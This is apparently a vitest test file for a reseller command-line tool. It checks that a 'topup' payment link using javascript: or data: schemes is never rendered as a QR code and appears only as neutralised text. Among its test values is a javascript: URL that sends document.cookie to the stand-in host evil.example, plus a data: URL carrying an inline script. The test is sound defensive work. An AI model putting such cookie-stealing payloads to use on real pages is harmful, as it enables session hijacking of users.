/**
 * A payment link that is not a web address (`javascript:`, `data:`): a QR code is followed without a
 * second look, so it is never drawn as one; the link is shown as text, neutralised, with a warning.
 */
import { describe, expect, it } from "vitest";
import { makeConfigDir } from "../support/cli.js";
import { json, useHostileServer } from "../support/hostile-server.js";
import { terminalEnv, useTmux } from "./tmux.js";

const server = useHostileServer();
const channels = json(200, { message: "OK", data: [{ code: "QRIS", name: "QRIS", fee: 750 }] });

describe("topup with a payment link that is not http(s)", () => {
  const tmux = useTmux("topup-hostile");

  for (const link of [
    "javascript:fetch('//evil.example/'+document.cookie)",
    "data:text/html,<script>alert(1)</script>",
  ]) {
    it(`draws no QR code of ${link.split(":")[0]}:`, async () => {
      server.routes.set("GET /v1/balance/channels", channels);
      server.routes.set(
        "POST /v1/balance",
        json(200, {
          message: "OK",
          data: { payment_url: link, amount: 50_000, expired_at: "2099-01-01T00:00:00+07:00" },
        }),
      );
      const env = terminalEnv({
        RESELLER_BASE_URL: server.baseUrl,
        RESELLER_API_KEY: "sk_live_topup_hostile_0123456789",
        RESELLER_CONFIG_DIR: makeConfigDir(),
      });
      const term = tmux.run(["topup", "--amount", "50000", "--channel", "QRIS", "--yes"], { env });
      const screen = await term.waitFor("no QR code is drawn");
      expect(await term.exitCode()).toBe(0);
      expect(term.screen()).not.toMatch(/[█▀▄]/);
      expect(screen).toContain(link.slice(0, 20));
    });
  }
});
